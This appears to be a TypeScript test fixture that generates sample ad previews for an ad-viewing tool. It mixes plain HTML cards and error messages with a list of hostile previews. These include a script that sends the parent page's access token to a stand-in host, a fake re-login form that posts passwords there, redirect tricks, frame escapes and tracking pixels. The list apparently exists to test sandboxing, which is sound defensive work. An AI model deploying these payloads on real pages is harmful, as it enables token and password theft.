/** What the demonstration ads look like: mostly a card, some without a preview, some that are out to do harm. */

const escaped = (text: string) => text.replace(/[&<>"]/g, (sign) => `&#${sign.charCodeAt(0)};`);

const card = (name: string, hue: number) => `<!doctype html><meta charset="utf-8"><style>
body{margin:0;font:14px/1.4 system-ui,sans-serif;color:#1c1e21}
.card{max-width:360px;border:1px solid #dadde1;border-radius:8px;overflow:hidden}
.head{padding:12px;font-weight:600}.head small{display:block;font-weight:400;color:#65676b}
.picture{height:200px;background:linear-gradient(135deg,hsl(${hue} 60% 70%),hsl(${(hue + 60) % 360} 60% 50%))}
.foot{padding:12px;background:#f0f2f5}
</style><div class="card"><div class="head">${escaped(name)}<small>Sponsored</small></div>
<div class="picture"></div><div class="foot">Shop now and get free shipping on your first order.</div></div>`;

// No such host exists: whoever shows one of these must not even ask for it.
const SINK = 'https://sink.storeward.example';

/** Each tries to get out of the frame, to run, to send or to fetch. */
export const HOSTILE_PREVIEWS: readonly string[] = [
  `<script>fetch('${SINK}/token?'+parent.localStorage.access_token);parent.document.body.innerHTML=''</script>Script`,
  `<img src=x onerror="top.location='${SINK}/image'"><svg onload="alert(document.domain)"></svg>Handlers`,
  `<form action="${SINK}/form" target=_top method=post><input name=password autofocus><button>Log in again</button></form>`,
  `<meta http-equiv=refresh content="0;url=${SINK}/refresh"><base href="${SINK}/" target=_top><a href=go>Redirect</a>`,
  `<iframe src="javascript:parent.parent.alert(1)"></iframe><a href="${SINK}/top" target=_top>A way out</a>`,
  `<img src="${SINK}/pixel.png"><div style="background:url(${SINK}/style.png)">External images</div><link rel=stylesheet href="${SINK}/a.css">`,
];

const REASONS = [
  'The ad was deleted on Facebook.',
  'Facebook has no preview for this type of ad.',
  '<b>HTTP 400</b>: (#100) Unsupported get request',
];

/** The preview of the ad at this place, or null where none was ever asked for. */
export function previewOf(at: number, name: string): { preview_html: string | null; error: string | null } | null {
  if (at % 7 === 6) return null;
  if (at % 10 === 9) return { preview_html: null, error: REASONS[Math.floor(at / 10) % REASONS.length] ?? '' };
  const hostile = at % 50 < HOSTILE_PREVIEWS.length ? HOSTILE_PREVIEWS[at % 50] : undefined;
  return { preview_html: hostile ?? card(name, (at * 47) % 360), error: null };
}
